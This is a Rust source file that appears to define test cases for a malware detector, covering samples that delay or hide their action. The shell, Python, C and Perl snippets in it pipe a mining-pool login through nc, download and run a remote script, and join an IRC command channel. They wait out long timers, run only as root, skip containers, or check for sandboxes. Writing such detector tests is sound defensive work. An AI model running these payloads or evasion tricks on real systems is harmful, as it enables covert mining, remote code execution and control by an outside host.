use super::{c, perl, python, sh};
use crate::case::Case;

const GROUP: &str = "waiting";

const LOGIN: &str = r#"{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"someone","pass":"x","agent":"w/1","algo":["rx/0"]}}"#;

pub(super) fn cases() -> Vec<Case> {
    let later = r#"static void act(void) { int s = dial("203.0.113.70", 3333); const char *l = "{\"id\":1,\"method\":\"login\",\"params\":{\"login\":\"a\",\"pass\":\"x\"}}\n"; write(s, l, strlen(l)); sleep(2); }"#;
    let mine = format!("(echo '{LOGIN}'; sleep 1) | nc 203.0.113.33 3333");
    let fetch = "import urllib.request, os\ndef act():\n    d = urllib.request.urlopen('http://198.51.100.171/l.sh', timeout=5).read()\n    open('/tmp/.l', 'wb').write(d); os.chmod('/tmp/.l', 0o755); os.system('/tmp/.l')\n";
    vec![
        sh(GROUP, "hours asleep, shell", &["D-MIN-STRATUM"], &format!("sleep 21600; {mine}")),
        python(
            GROUP,
            "hours asleep, python",
            &["D-DLX-FETCHEXEC"],
            &format!(
                "{fetch}import time, threading\nthreading.Event().wait(7200)\ntime.sleep(86400)\nact()\n"
            ),
        ),
        c(
            GROUP,
            "hours until a timer, c",
            &["D-MIN-STRATUM"],
            &format!(
                "{later}\n#include <sys/timerfd.h>\nint main() {{ int t = timerfd_create(CLOCK_MONOTONIC, 0); struct itimerspec i = {{.it_value = {{14400, 0}}}}; timerfd_settime(t, 0, &i, 0); long n; read(t, &n, 8); time_t from = time(0); while (time(0) - from < 600) sleep(30); act(); return 0; }}"
            ),
        ),
        perl(
            GROUP,
            "hours in select, perl",
            &["D-C2-IRC", "D-C2-BEACON"],
            r#"use IO::Socket::INET; select(undef, undef, undef, 9000); alarm 0; my $s = IO::Socket::INET->new('192.0.2.172:6697'); print $s "NICK z\r\nUSER z z z z\r\nJOIN #z\r\n"; $s->flush; sleep 1;"#,
        ),
        python(
            GROUP,
            "after a date, python",
            &["D-DLX-FETCHEXEC"],
            &format!(
                "{fetch}import time\nbegun = __import__('os').stat('/app/main.py').st_mtime\nif time.time() > {} : act()\nelse: print('nothing to do')\n",
                soon()
            ),
        ),
        sh(
            GROUP,
            "after a date, shell",
            &["D-MIN-STRATUM"],
            &format!("if [ $(date +%s) -gt {} ]; then {mine}; else echo idle; fi", soon()),
        ),
        sh(
            GROUP,
            "only as root, shell",
            &["D-MIN-STRATUM"],
            &format!("if [ $(id -u) = 0 ]; then {mine}; fi"),
        )
        .user("app"),
        python(
            GROUP,
            "only as root, python",
            &["D-DLX-FETCHEXEC"],
            &format!("{fetch}import os\nif os.geteuid() == 0: act()\n"),
        )
        .user("1000"),
        sh(
            GROUP,
            "only where no container shows, shell",
            &["D-MIN-STRATUM"],
            &format!("[ -e /.dockerenv ] || {{ {mine}; }}"),
        ),
        python(
            GROUP,
            "only where no container shows, python",
            &["D-DLX-FETCHEXEC"],
            &format!("{fetch}import os\nif not os.path.exists('/.dockerenv'): act()\n"),
        ),
        sh(
            GROUP,
            "only on the second start, shell",
            &["D-MIN-STRATUM"],
            &format!("if [ -e /var/.once ]; then {mine}; fi; touch /var/.once"),
        ),
        python(
            GROUP,
            "only on the second start, python",
            &["D-DLX-FETCHEXEC"],
            &format!("{fetch}import os\nif os.path.exists('/etc/.s'): act()\nopen('/etc/.s', 'w').close()\n"),
        ),
        python(
            GROUP,
            "only where no name is invented, python",
            &["D-DLX-FETCHEXEC"],
            &format!(
                "{fetch}import socket\ntry:\n    socket.gethostbyname('qkzhvtw8d3nq.com')\n    print('odd network')\nexcept OSError: act()\n"
            ),
        ),
        sh(
            GROUP,
            "only where no name is invented, shell",
            &["D-MIN-STRATUM"],
            &format!("nslookup wq7rkz0vbt.net >/dev/null 2>&1 || {{ {mine}; }}"),
        ),
    ]
}

/// A week from now, in seconds since the epoch.
fn soon() -> u64 {
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap();
    now.as_secs() + 7 * 86_400
}
